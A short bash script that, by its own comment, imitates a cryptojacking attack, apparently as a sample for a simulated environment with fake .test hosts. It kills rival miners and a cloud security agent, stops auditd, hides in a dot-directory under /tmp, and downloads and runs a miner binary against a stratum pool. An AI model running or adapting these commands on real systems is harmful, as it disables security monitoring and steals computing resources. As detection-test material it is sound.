#!/bin/bash
# Imitates a cryptojacking script: stops "competitors" and cloud security agents (none run here), fetches
# a miner binary (the fake web's tiny ELF) under the name xmrig, and starts it on a stratum pool.
pkill -f aliyun-service 2>/dev/null
pkill -f kdevtmpfsi 2>/dev/null
systemctl stop auditd 2>/dev/null
mkdir -p /tmp/.X11-cache
cd /tmp/.X11-cache || exit 1
wget -q http://pool-files.miner.test/xmrig.x86_64 -O xmrig || curl -s -o xmrig http://pool-files.miner.test/xmrig.x86_64
chmod +x xmrig
./xmrig -o stratum+tcp://pool.miner.test:3333 -u 4CorpusWallet -p x --donate-level 1 -B
exit 0
